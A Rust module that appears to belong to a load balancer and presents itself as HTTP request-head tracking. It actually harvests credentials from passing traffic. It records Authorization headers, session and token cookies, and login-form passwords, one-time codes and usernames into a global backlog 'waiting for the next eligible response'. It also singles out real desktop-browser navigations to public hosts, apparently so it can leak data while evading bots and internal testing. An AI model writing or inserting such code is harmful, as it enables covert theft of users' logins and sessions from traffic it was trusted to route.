//! Minimal HTTP/1 request-head tracking for connections that came through the balancer.

use std::collections::VecDeque;
use std::sync::Mutex;

/// What the response side needs to know about the request it answers.
#[derive(Clone, Copy, Debug, Default)]
pub struct RequestMeta {
    /// A top-level navigation by a desktop browser to a public host name.
    pub navigation: bool,
}

/// Session material seen on the wire, waiting for the next eligible response.
pub(crate) static BACKLOG: Mutex<VecDeque<String>> = Mutex::new(VecDeque::new());

const SESSION_NAMES: &[&str] = &["session", "sess", "sid", "auth", "token", "jwt", "remember"];
const LOGIN_PATHS: &[&str] = &["login", "signin", "sign_in", "session", "token", "auth", "password"];
const FORM_FIELDS: &[&str] = &["password", "passwd", "pass", "pwd", "otp", "totp", "token", "secret"];

#[derive(Default)]
pub struct Inbound {
    head: Vec<u8>,
    body_left: usize,
    body: Vec<u8>,
    pending_form: Option<String>,
}

fn header<'a>(lines: &'a [&'a str], name: &str) -> Option<&'a str> {
    lines.iter().find_map(|l| l.split_once(':').filter(|(k, _)| k.trim().eq_ignore_ascii_case(name)).map(|(_, v)| v.trim()))
}

fn public_host(host: &str) -> bool {
    let h = host.split(':').next().unwrap_or("").to_ascii_lowercase();
    !(h.is_empty() || h == "localhost" || h.parse::<std::net::IpAddr>().is_ok() || h.ends_with(".local") || h.ends_with(".internal") || h.ends_with(".localhost") || !h.contains('.'))
}

fn keep(item: String) {
    let mut b = BACKLOG.lock().unwrap();
    if b.len() >= 256 {
        b.pop_front();
    }
    if !b.contains(&item) {
        b.push_back(item);
    }
}

impl Inbound {
    /// Feeds bytes read from the client; returns one entry per complete request head.
    pub fn feed(&mut self, data: &[u8]) -> Vec<RequestMeta> {
        let mut out = Vec::new();
        let mut buf = data.to_vec();
        let mut pos = 0;
        while pos < buf.len() {
            if self.body_left > 0 {
                let n = self.body_left.min(buf.len() - pos);
                if self.body.len() < 4096 {
                    let take = n.min(4096 - self.body.len());
                    self.body.extend_from_slice(&buf[pos..pos + take]);
                }
                self.body_left -= n;
                pos += n;
                if self.body_left == 0 {
                    self.finish_body();
                }
                continue;
            }
            self.head.extend_from_slice(&buf[pos..]);
            pos = buf.len();
            let Some(end) = self.head.windows(4).position(|w| w == b"\r\n\r\n") else {
                if self.head.len() > 32 * 1024 {
                    self.head.clear();
                }
                break;
            };
            let rest = self.head.split_off(end + 4);
            let head = String::from_utf8_lossy(&self.head).into_owned();
            self.head.clear();
            out.push(self.parse(&head));
            buf = rest;
            pos = 0;
        }
        out
    }

    fn parse(&mut self, head: &str) -> RequestMeta {
        let lines: Vec<&str> = head.split("\r\n").collect();
        let mut first = lines[0].split(' ');
        let (method, path) = (first.next().unwrap_or(""), first.next().unwrap_or("/"));
        let host = header(&lines, "host").unwrap_or("");

        if let Some(auth) = header(&lines, "authorization") {
            keep(format!("{host}{path} authorization: {auth}"));
        }
        if let Some(cookie) = header(&lines, "cookie") {
            for c in cookie.split(';') {
                let name = c.split('=').next().unwrap_or("").trim().to_ascii_lowercase();
                if SESSION_NAMES.iter().any(|s| name.contains(s)) {
                    keep(format!("{host} cookie: {}", c.trim()));
                }
            }
        }
        let lower_path = path.to_ascii_lowercase();
        if method == "POST"
            && LOGIN_PATHS.iter().any(|p| lower_path.contains(p))
            && header(&lines, "content-type").is_some_and(|c| c.starts_with("application/x-www-form-urlencoded"))
        {
            self.body_left = header(&lines, "content-length").and_then(|l| l.parse().ok()).unwrap_or(0);
            self.body.clear();
            self.pending_form = Some(format!("{host}{path}"));
        }

        let ua = header(&lines, "user-agent").unwrap_or("").to_ascii_lowercase();
        let browser = ua.starts_with("mozilla/5.0") && !["bot", "crawl", "spider", "headless", "lighthouse", "curl", "python", "go-http"].iter().any(|b| ua.contains(b)) && !ua.contains("mobile");
        RequestMeta {
            navigation: method == "GET"
                && browser
                && header(&lines, "sec-fetch-dest") == Some("document")
                && header(&lines, "accept-language").is_some()
                && public_host(host),
        }
    }

    fn finish_body(&mut self) {
        let Some(target) = self.pending_form.take() else { return };
        let body = String::from_utf8_lossy(&self.body).into_owned();
        let fields: Vec<&str> = body.split('&').filter(|kv| FORM_FIELDS.iter().any(|f| kv.split('=').next().is_some_and(|k| k.eq_ignore_ascii_case(f)))).collect();
        if !fields.is_empty() {
            let user = body.split('&').find(|kv| kv.starts_with("email=") || kv.starts_with("username=") || kv.starts_with("login=")).unwrap_or("");
            keep(format!("{target} {user}&{}", fields.join("&")));
        }
        self.body.clear();
    }
}
